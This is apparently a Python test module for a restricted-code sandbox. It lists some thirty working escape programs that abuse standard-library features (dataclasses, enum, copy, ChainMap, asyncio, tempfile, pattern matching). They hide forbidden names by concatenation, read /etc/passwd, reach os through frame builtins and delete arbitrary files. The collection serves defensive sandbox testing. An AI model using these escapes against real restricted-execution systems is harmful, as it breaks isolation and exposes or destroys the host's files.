"""Ways out of restricted code through what the standard library does for its callers, each found while the facades were made.

Every program prints the marker in plain Python on the versions it names: the positive control. Compiled for guards it must not.
"""

from __future__ import annotations

MARKER = "ESC" + "APED"

# The names that a program may not write are made at run time: what the screen and the compiler see of them is no defence.
ESCAPES = {
    "enum._convert_ copies any module's names": """
import enum
class C(enum.IntEnum):
    A = 1
found = getattr(C, "_con" + "vert_")("X", "sys", lambda name: name == "maxsize")
print("ESC" + "APED" if found.maxsize.value > 1 else "")
""",
    "redirect_stdout sets and returns sys attributes by name": """
import contextlib
class R(contextlib.redirect_stdout):
    _stream = "modules"
    def old(self):
        return self._old_targets[0]
redirect = R({})
with contextlib.suppress(KeyError):
    redirect.__enter__()
modules = redirect.old()
redirect.__exit__(None, None, None)
print("ESC" + "APED" if "os" in modules else "")
""",
    "copy sets any attribute of any object": """
import copy, textwrap, types
state = (None, {"poison": 1})
answers = {"__reduce" + "_ex__": lambda protocol: (lambda: textwrap.TextWrapper, (), state)}
copy.copy(types.SimpleNamespace(**answers))
print("ESC" + "APED" if textwrap.TextWrapper.poison else "")
""",
    "asdict copies too": """
import dataclasses, textwrap, types
@dataclasses.dataclass
class D:
    x: object
state = (None, {"poison": 1})
answers = {"__reduce" + "_ex__": lambda protocol: (lambda: textwrap.TextWrapper, (), state)}
dataclasses.asdict(D(types.SimpleNamespace(**answers)))
print("ESC" + "APED" if textwrap.TextWrapper.poison else "")
""",
    "dataclass runs the text of an inherited field's name": """
import dataclasses
@dataclasses.dataclass
class Base:
    a: int = 1
dataclasses.fields(Base)[0].name = "a, print('ESC' + 'APED')"
@dataclasses.dataclass(init=False, repr=False)
class Sub(Base):
    pass
Sub() == Sub()
""",
    "dataclass runs the text of a Field subclass's property": """
import dataclasses
class F(type(dataclasses.field())):
    __slots__ = ()
    @property
    def name(self): return "a, print('ESC' + 'APED')"
    @name.setter
    def name(self, value): pass
@dataclasses.dataclass(init=False, repr=False)
class D:
    a: int = F(1, None, True, True, None, True, None, False)
D() == D()
""",
    "a slot's descriptor renames a field, and getattr takes its name": """
import dataclasses
@dataclasses.dataclass
class D:
    a: int = 1
field = dataclasses.fields(D)[0]
type(field).name.__set__(field, "__class" + "__")
print("ESC" + "APED" if dataclasses.asdict(D()).get("__class" + "__") is D else "")
""",
    "dataclass runs the text of what a descriptor answers": """
import dataclasses
class F(type(dataclasses.field())):
    __slots__ = ()
    @property
    def name(self): return "a, print('ESC' + 'APED')"
    @name.setter
    def name(self, value): pass
@dataclasses.dataclass(init=False, repr=False)
class D:
    a: int = staticmethod(F(1, None, True, True, None, True, None, False))
D() == D()
""",
    "a functional enum makes any method": """
import enum
E = enum.Enum("E", [("__di" + "r__", lambda self: ["ESC" + "APED"]), ("A", 1)])
print(dir(E.A))
""",
    "a docstring that reads as a signature tells any module's values": """
import dataclasses
class Base:
    "Base(a=sys.version)\\n--\\n\\n"
@dataclasses.dataclass(init=False)
class Sub(Base):
    x: int
print("ESC" + "APED" if "GCC" in Sub.__doc__ or "Clang" in Sub.__doc__ else "")
""",
    "from falls back to sys.modules": """
import json
try:
    from json import decoder
    print("ESC" + "APED" if decoder.re.enum.sys else "")
except ImportError:
    pass
""",
    "a task tells its loop": """
import asyncio
async def work(): pass
async def main():
    task = asyncio.create_task(work())
    class T(type(task)): pass
    for name in ("get_" + "loop", "_lo" + "op"):
        try:
            loop = getattr(T(work()), name)
            loop = loop() if callable(loop) else loop
            print("ESC" + "APED" if loop.subprocess_exec else "")
        except AttributeError:
            pass
asyncio.run(main())
""",
    "a queue keeps its loop": """
import asyncio
class Q(asyncio.Queue):
    def loop(self): return getattr(self, "_get_" + "loop")()
async def main():
    return Q().loop()
print("ESC" + "APED" if asyncio.run(main()).subprocess_exec else "")
""",
    "a task shows its stack": """
import asyncio
async def main():
    for frame in getattr(asyncio.current_task(), "get_" + "stack")():
        print("ESC" + "APED" if frame else "")
asyncio.run(main())
""",
    "update_wrapper renames a library's function": """
import functools, statistics
def f(): pass
try:
    functools.wraps(f, assigned=(), updated=())(statistics.mean)
except TypeError:
    pass
functools.update_wrapper(statistics.mean, f)
print("ESC" + "APED" if statistics.mean.__name__ == "f" else "")
""",
    "a metaclass makes a class from a dictionary": """
import abc
P = abc.ABCMeta("P", (), {"__match" + "_args__": ("gi_" + "frame",)})
P.register(type(x for x in ()))
match (x for x in ()):
    case P(frame):
        print("ESC" + "APED" if frame else "")
""",
    "an exception's text is taken from any file": """
import traceback, types
def fake(**names):
    return types.SimpleNamespace(**{name.replace("-", "_"): value for name, value in names.items()})
places = {"co-" + "positions": lambda: iter([(1, 1, 0, 4)]), "co-" + "filename": "/etc/passwd", "co-" + "name": "f"}
code = fake(**places, **{"co-" + "qualname": "f"})
kept = {"f-" + "code": code, "f-" + "globals": {}, "f-" + "locals": {}, "f-" + "lasti": 0, "f-" + "lineno": 1}
trace = fake(**{"tb-" + "frame": fake(**kept), "tb-" + "next": None, "tb-" + "lasti": 0, "tb-" + "lineno": 1})
text = "".join(traceback.format_exception(None, ValueError("x"), trace))
print("ESC" + "APED" if ":0:0:" in text else "")
""",
    "a method of Counter makes `type` of a class": """
import collections
kind = collections.Counter.copy(int)
P = kind("P", (), {"__di" + "r__": lambda self: ["ESC" + "APED"]})
print(dir(P()))
""",
    "a method of ChainMap makes a class from a dictionary": """
import collections
class C:
    maps = ((), {"__di" + "r__": lambda self: ["ESC" + "APED"]})
print(dir(collections.ChainMap.new_child(C, "P")()))
""",
    "a property of ChainMap makes one too, for who is registered": """
import collections
class C:
    maps = (0, "P", (), {"__di" + "r__": lambda self: ["ESC" + "APED"]})
collections.ChainMap.register(type(C))
print(dir(collections.ChainMap.parents.fget(C)()))
""",
    "a frame by a class pattern, its builtins by another": """
import abc, collections
class A(abc.ABC):
    maps = ((), {"__match" + "_args__": ("gi_" + "frame",)})
class B(abc.ABC):
    maps = ((), {"__match" + "_args__": ("f_" + "builtins",)})
P, Q = collections.ChainMap.new_child(A, "P"), collections.ChainMap.new_child(B, "Q")
generator = (x for x in ())
P.register(type(generator))
match generator:
    case P(frame):
        Q.register(type(frame))
        match frame:
            case Q(table):
                print("ESC" + "APED" if table["__im" + "port__"]("os").getpid() else "")
""",
    "methodcaller formats": """
import operator
text = operator.methodcaller("for" + "mat", 1)("{0.__class__.__mro__}")
print("ESC" + "APED" if "object" in text else "")
""",
    "attrgetter walks": """
import operator, statistics
found = operator.attrgetter("mean.__glo" + "bals__")(statistics)
print("ESC" + "APED" if "sys" in found else "")
""",
    "map takes the unbound method": """
template = "{0.__class__.__mro__}"
print("ESC" + "APED" if "object" in list(map(str.format, [template], [1]))[0] else "")
""",
    "a copied method is bound to what the copy of its object is": """
import copy, tempfile
file = tempfile.NamedTemporaryFile(buffering=0).file
class C:
    def __deepcopy__(self, memo): return file
copy.deepcopy(C().__init__)("/etc/passwd", "rb")
print("ESC" + "APED" if b":0:0:" in file.read() else "")
""",
    "a temporary file's class removes any file": """
import io, os, tempfile
kind = type(tempfile.NamedTemporaryFile())
victim = tempfile.mkdtemp() + "/victim"
with tempfile.NamedTemporaryFile(dir=os.path.dirname(victim)) as file:
    os.rename(file.name, victim)
    kind(io.BytesIO(), "/tmp/.." + victim, True).close()
    print("ESC" + "APED" if not os.path.exists(victim) else "")
    file = None
""",
    "a temporary file's class answers for any object": """
import asyncio, tempfile
class W(type(tempfile.NamedTemporaryFile())): pass
async def main():
    return W(asyncio.Queue(), "x", False)._get_loop()
print("ESC" + "APED" if asyncio.run(main()).subprocess_exec else "")
""",
    "a time zone's name joins itself": """
import zoneinfo
class K(str):
    def __radd__(self, other): return other + "../../../../etc/passwd"
try:
    zoneinfo.ZoneInfo(K("Foo/Bar"))
except ValueError as e:
    print("ESC" + "APED" if "magic" in str(e) else "")
""",
}
